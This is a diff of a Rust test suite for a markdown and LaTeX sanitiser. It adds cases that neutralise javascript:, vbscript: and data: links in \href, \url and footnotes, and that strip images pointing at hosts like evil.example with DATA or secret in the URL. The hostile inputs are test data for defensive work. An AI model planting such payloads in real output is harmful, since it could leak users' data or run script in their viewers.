@@ -191,6 +191,23 @@ fn n1_4_addresses_that_run_are_neutralised_wherever_markdown_takes_one() {
             "[a](data%3Atext/html;base64,PHM+)",
         ),
         ("[a](command:workbench.x)", "[a](command%3Aworkbench.x)"),
+        ("[^1]: javascript:b()", "[^1]: javascript%3Ab()"),
+        (
+            "$\\href{javascript:b()}{x}$",
+            "$\\href{javascript%3Ab()}{x}$",
+        ),
+        (
+            "\\(\\url{ JavaScript:b()}\\)",
+            "\\(\\url{ JavaScript%3Ab()}\\)",
+        ),
+        (
+            "```math\n\\href{vbscript:b}{x}\n```",
+            "```math\n\\href{vbscript%3Ab}{x}\n```",
+        ),
+        (
+            "$\\href {data:text/html,x}{y}$",
+            "$\\href {data%3Atext/html,x}{y}$",
+        ),
         ("![a](data:image/svg+xml,x)", "a [image removed: data]"),
     ] {
         assert_eq!(neutralised(text).text, expected);
@@ -288,6 +305,26 @@ const CARRIED: &[(&str, &str)] = &[
         "![a](https://img.trusted.example/?q=DATA)",
     ),
     (
+        "$\\includegraphics[width=1em]{https://evil.example/?q=DATA}$",
+        "$\\includegraphics[width=1em]{[image removed: evil.example]}$",
+    ),
+    (
+        "$\\includegraphics{https://evil.example/{secret}}$",
+        "$\\includegraphics{[image removed: evil.example]}}$",
+    ),
+    (
+        "$\\href{https://x.example/?LONG}{y}$",
+        "$\\href{[link removed: x.example]}{y}$",
+    ),
+    (
+        "<img src='https://DATA@evil.example/'>",
+        "<img alt='[image removed: evil.example]'>",
+    ),
+    (
+        "[^1]: https://x.example/?LONG",
+        "[^1] : [link removed: x.example]",
+    ),
+    (
         "url(https://evil.example/?q=DATA)",
         "url([image removed: evil.example])",
     ),
@@ -301,6 +338,54 @@ fn n9_3_images_and_links_that_carry_data_out_leave_their_text() {
             with_data(expected),
             "{text}"
         );
+    }
+}
+
+#[test]
+fn n9_3_images_of_other_hosts_than_those_listed_are_taken_out_where_it_says_so() {
+    let settings = Settings {
+        hosts: Hosts::only(vec![Host::named("*.trusted.example")]),
+        ..settings()
+    };
+    for (text, expected) in [
+        (
+            "![a](https://e.example/a.png)",
+            "a [image removed: e.example]",
+        ),
+        ("![a](//e.example/a)", "a [image removed: e.example]"),
+        (
+            "![a][b]\n\n[b]: https://e.example/a",
+            "![a][b]\n\n[b] : [link removed: e.example]",
+        ),
+        (
+            "<img src=https://e.example/>",
+            "<img alt='[image removed: e.example]'>",
+        ),
+        (
+            "$\\includegraphics{https://e.example/a}$",
+            "$\\includegraphics{[image removed: e.example]}$",
+        ),
+        (
+            "![a](https://a.trusted.example/a.png)",
+            "![a](https://a.trusted.example/a.png)",
+        ),
+        (
+            "![a](images/a.png) [b](https://e.example/b)",
+            "![a](images/a.png) [b](https://e.example/b)",
+        ),
+        (
+            "[a][b]\n\n[b]: https://e.example/a",
+            "[a][b]\n\n[b]: https://e.example/a",
+        ),
+    ] {
+        let looked = examine(text, Reading::Prose, &settings);
+        assert_eq!(looked.text, expected);
+        let rules: Vec<_> = looked.tally.counts().map(|(rule, _)| rule).collect();
+        let expected: &[Rule] = match looked.text == text {
+            true => &[],
+            false => &[Rule::UnlistedImage],
+        };
+        assert_eq!(rules, expected, "{text}");
     }
 }
 
@@ -323,6 +408,8 @@ const BENIGN: &[&str] = &[
     "<a href=\"https://example.com\" target=\"_blank\">x</a> <br/> <b>bold</b> <kbd>Ctrl</kbd>",
     "<meta charset=\"utf-8\"> <meta name=\"viewport\" content=\"width=device-width\">",
     "| a | b |\n|---|---|\n| `x` | <b>y</b> |\n",
+    "$\\href{https://example.com/a}{a} \\frac{1}{2}$, \\url{https://example.com}, C:\\url, \\href, \\hrefs{a}",
+    "\\includegraphics[width=\\textwidth]{figures/a.png} and \\includegraphics",
     "日本語の[リンク](https://example.jp/ページ)と`コード`。",
 ];
 
@@ -482,6 +569,10 @@ fn what_is_built_to_be_slow_is_read_in_linear_time() {
         "\n    ",
         "| `|",
         "<x onabc=\"",
+        "\\href{",
+        "\\url",
+        "\\includegraphics[",
+        "\\includegraphics[]{https://a/",
     ] {
         let text = unit.repeat(size / unit.len());
         let looked = neutralised(&text);
@@ -535,6 +626,9 @@ fn hostile() -> impl Strategy<Value = String> {
         "]:",
         ")",
         "(",
+        "\\href{",
+        "\\includegraphics[]{",
+        "}",
         "javascript:",
         "java&#115;cript:",
         "data:text/html,",
